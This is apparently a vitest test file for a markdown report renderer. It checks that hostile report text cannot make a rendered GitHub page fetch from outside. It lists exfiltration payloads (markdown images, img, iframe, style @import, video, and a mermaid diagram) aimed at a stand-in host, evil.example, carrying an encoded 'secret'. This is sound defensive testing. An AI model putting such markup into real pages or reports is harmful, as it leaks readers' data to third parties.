import { describe, expect, it } from 'vitest';
import { renderFailureMarkdown } from '../../../src/report/failure-markdown.ts';
import { renderReportMarkdown } from '../../../src/report/markdown.ts';
import { hasGitHubParser, toHtml } from '../../support/github-parser.ts';
import { hostileReport, hostileStatus } from './hostile-reports.ts';
import { sampleReport } from './report-samples.ts';

const PLACE = 'evil.example/pixel?c2VjcmV0';

/** Text that makes whoever looks at a page ask somebody else for something. */
const FETCHING: readonly (readonly [what: string, text: string])[] = [
  ['an image', `![x](https://${PLACE})`],
  ['an image by reference', `![x][r]\n\n[r]: https://${PLACE}`],
  ['an image in HTML', `<img src="https://${PLACE}">`],
  ['a picture with sources', `<picture><source srcset="https://${PLACE}"><img></picture>`],
  ['a style', `<style>@import url(https://${PLACE});</style>`],
  ['a frame', `<iframe src="//${PLACE}"></iframe>`],
  ['a video', `<video autoplay src="https://${PLACE}"></video>`],
  ['an image in a link', `[![x](https://${PLACE})](https://${PLACE})`],
  ['a diagram with an image', `\`\`\`mermaid\nflowchart LR\n a["<img src='https://${PLACE}'>"]\n\`\`\``],
];

describe.runIf(hasGitHubParser()).each(FETCHING)('threat 11: a way out for data by a page: %s', (_, text) => {
  it('fetches nothing', async () => {
    const report = renderReportMarkdown(hostileReport(await sampleReport(), text), { resultFolderDepth: 5 });
    for (const page of [report, renderFailureMarkdown(hostileStatus(text))]) {
      // GitHub shows the front matter as a table of plain text.
      const html = toHtml(page.replace(/^---\n[^]*?\n---\n/u, ''));
      expect(html).not.toMatch(/<(?:img|picture|source|style|iframe|video|object|embed|link)\b/iu);
      expect(html).not.toMatch(/<[^>]*\b(?:src|srcset|poster|style)\s*=/iu);
    }
  });
});
